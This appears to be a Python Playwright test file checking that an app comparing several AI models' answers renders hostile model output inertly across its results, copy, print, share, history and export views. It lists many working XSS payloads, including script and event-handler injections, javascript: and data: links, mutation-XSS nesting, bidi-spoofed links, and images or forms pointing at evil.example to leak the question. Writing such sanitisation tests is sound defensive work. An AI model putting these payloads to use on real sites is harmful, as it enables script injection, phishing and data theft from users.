"""Text that would like to be more than text, in a real browser, wherever the page shows it: it stays text.

The browser is told to ignore the page's policy, so that nothing stands between these answers and the reader but the
page itself; that the policy holds besides is another test's."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, Request, expect
from tests.journeys.conftest import PANEL, Server, Vendors
from tests.journeys.test_page_in_browser import OpenPage, browser, open_page, text_of
from tests.providers.vendors import Script

pytestmark = pytest.mark.browser
__all__ = ["browser", "open_page"]

MODEL = "<img src=x onerror=top.hit`model`>"
QUESTION = "<svg onload=top.hit('question')> </title><script>top.hit('title')</script> How tall is the tower?"
MARKUP = [
    "The tower is 330 metres tall. <script>top.hit('script')</script>",
    "<img src=x onerror=\"top.hit('image')\">",
    "<svg onload=\"top.hit('svg')\"><animate onbegin=top.hit('animate') attributeName=x dur=1s></svg>",
    "<iframe srcdoc=\"<script>parent.top.hit('frame')</script>\"></iframe>",
    '<a href="//evil.example" style="position:fixed;inset:0">cover</a>',
    '<form action="https://evil.example"><input name=key autofocus onfocus=top.hit(1)><button>Go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=top.hit('math')></style></mglyph></table></mtext></math>",
    '<style>@import "https://evil.example/a.css"; * { display: none }</style>',
    "<details open ontoggle=top.hit('toggle')><base href=https://evil.example/><object data=x.swf></object></details>",
    '<meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=https://evil.example/b.css>',
    "<noscript><p title=\"</noscript><img src=x onerror=top.hit('noscript')>\"></noscript>",
]
LINKS = [
    "The tower is 312 metres tall. [script](javascript:top.hit('link'))",
    "[mixed](JaVa&#115;cript:top.hit('entity')) and [tab](java\tscript:top.hit('tab'))",
    "[data](data:text/html,<script>top.hit('data')</script>) and [basic](vbscript:msgbox(1))",
    "![picture](javascript:top.hit('picture')) and ![secret](https://evil.example/?q=what-was-asked)",
    "<javascript:top.hit('auto')> and javascript:top.hit('bare') and <https://evil.example/auto>",
    "[attribute](https://evil.example/\"onmouseover=\"top.hit('attribute'))",
    '[title](https://evil.example/ "x\\" onmouseover=top.hit(1)")',
    "[bank](https://bank.example@evil.example/) and [\u202emoc.knab](https://evil.example/bidi)",
    "[no scheme](//evil.example/x) and [r][x]\n\n[x]: javascript:top.hit('reference')",
]
SHAPES = [
    "The tower is 330 m tall. &lt;script&gt;top.hit('entities')&lt;/script&gt; &#60;img src=x onerror=top.hit(1)&#62;",
    "```html\n<img src=x onerror=top.hit('code')>\n```",
    "```\"><img/src=x/onerror=top.hit('language')>\nplain\n```",
    "| <img src=x onerror=top.hit('head')> |\n|---|\n| <svg onload=top.hit('cell')> |",
    "# <img src=x onerror=top.hit('heading')>\n\n- <svg onload=top.hit('item')>\n\n> <script>top.hit('quote')</script>",
    "\U000e0068\U000e0069\u2066 tags and isolates \u202e <b onclick=top.hit('bold')>bold</b>",
    "<script>top.hit('open')",
]
SAID = ["\n\n".join(some) for some in (MARKUP, LINKS, SHAPES)]

WATCH = "window.hits = []; window.hit = (what) => window.hits.push(what)"
ALIVE = """() => [...document.querySelectorAll('*')].flatMap((one) => [
  ...one.getAttributeNames().filter((name) => /^on|^srcdoc$/.test(name)),
  ...(one.matches('iframe, object, embed, base, meta[http-equiv=refresh], math, animate, script:not([src])')
    ? [one.outerHTML] : []),
  ...(one.matches('a, link, img, script') && !/^(https?|mailto|blob):$/.test(
    new URL(one.href || one.src || '/', location).protocol) ? [one.outerHTML] : []),
  ...(one.closest('.answer') && one.matches('img, form, input, style, link, script, [style]') ? [one.outerHTML] : []),
])"""
HOSTS = """() => [...document.querySelectorAll('.answer a')].filter(
  (link) => !link.nextElementSibling?.textContent.includes(link.host)).map((link) => link.outerHTML)"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose models, one of them by its very name too, answer with all of this."""
    vendors, directory = Vendors(), tmp_path_factory.mktemp("hostile")
    vendors.script(**{key.partition(":")[2]: Script([text]) for key, text in zip(PANEL, SAID, strict=True)})
    provider, _, model = PANEL[0].partition(":")
    (directory / "models.toml").write_text(f'[providers.{provider}.models."{model}"]\nlabel = "{MODEL}"\n')
    settings = {"TRILLM_MODELS_FILE": str(directory / "models.toml"), "TRILLM_JUDGE": "never"}
    server = Server(directory, vendors, **settings)
    yield server
    server.stop()
    vendors.close()


PASTED = """async (page) => {
  const [item] = await navigator.clipboard.read();
  const pasted = new DOMParser().parseFromString(await (await item.getType('text/html')).text(), 'text/html');
  return [...pasted.querySelectorAll('*')].filter((one) =>
    one.matches('img, script, iframe, object, embed, form, input, style, link, meta, base, svg, math, [style]') ||
    one.getAttributeNames().some((name) => /^on|^srcdoc$/.test(name)) ||
    (one.href && !/^(https?|mailto):$/.test(one.protocol))).map((one) => one.outerHTML);
}"""


def assert_inert(page: Page) -> None:
    assert page.evaluate("() => window.hits") == []
    assert page.evaluate(ALIVE) == []
    assert page.evaluate(HOSTS) == []


def test_hostile_text_stays_text_wherever_it_is_shown(hostile: Server, open_page: OpenPage) -> None:
    page = open_page("about:blank", bypass_csp=True, permissions=["clipboard-read", "clipboard-write"])
    page.add_init_script(WATCH)
    strayed: list[str] = []

    def watch(request: Request) -> None:
        strayed.extend([request.url] if not request.url.startswith((hostile.url, "data:", "blob:")) else [])

    page.context.on("request", watch)
    page.goto(hostile.url)
    page.get_by_label("Your question").fill(QUESTION)
    page.get_by_role("button", name="Ask", exact=True).click()
    page.wait_for_url("**/results/*")
    expect(page.get_by_text("3 of 3 answered")).to_be_visible(timeout=20_000)
    expect(page.get_by_role("heading", level=1)).to_have_text(QUESTION)
    expect(page.get_by_role("article").get_by_text("top.hit('open')")).to_be_visible()
    expect(page.get_by_role("article").get_by_text("(evil.example)").first).to_be_attached()
    expect(page.get_by_role("article", name=MODEL)).to_be_visible()
    assert page.title().startswith("<svg")
    assert_inert(page)
    query = page.url.rpartition("/")[2]
    page.get_by_role("button", name="Show claims").click()
    page.locator("#claims-list button").first.click()
    page.get_by_role("button", name="Merge the answers").click()
    expect(page.get_by_role("button", name="Copy the merged answer")).to_be_visible(timeout=20_000)
    for card in page.get_by_role("article").all():
        card.get_by_role("button", name="Copy the answer of").click()
        expect(card.get_by_text("Copied", exact=True)).to_be_attached()
        assert page.evaluate(PASTED) == []
    page.emulate_media(media="print")
    assert_inert(page)
    page.emulate_media(media="screen")
    page.reload()
    expect(page.get_by_role("article")).to_have_count(3)
    assert_inert(page)
    shared = page.request.post(f"{hostile.url}/api/query/{query}/shares").json()["url"]
    for path in (shared, "/history", "/", "/dashboard", f"/plain/{query}", f"/plain{shared}"):
        page.goto(hostile.url + path)
        expect(page.get_by_role("heading").first).to_be_visible()
        page.wait_for_load_state("networkidle")
        assert_inert(page)
    assert strayed == []


def test_files_of_hostile_answers_are_put_aside_by_the_browser_and_never_shown(
    hostile: Server, open_page: OpenPage
) -> None:
    page = open_page(hostile.url, bypass_csp=True)
    asked = page.request.post(f"{hostile.url}/api/query", data={"question": QUESTION}).json()
    shared = page.request.post(f"{hostile.url}/api/query/{asked['id']}/shares").json()
    for address in (f"/api/query/{asked['id']}", f"/api/shares/{shared['id']}"):
        for ending in ("md", "json"):
            path = f"{hostile.url}{address}/export.{ending}"
            with page.expect_download() as saved:
                page.evaluate("(path) => { location.href = path }", path)
            assert saved.value.suggested_filename.endswith(f".{ending}")
            assert "top.hit('script')" in text_of(saved.value)
            assert page.request.get(path).headers["x-content-type-options"] == "nosniff"
    assert page.url == f"{hostile.url}/"
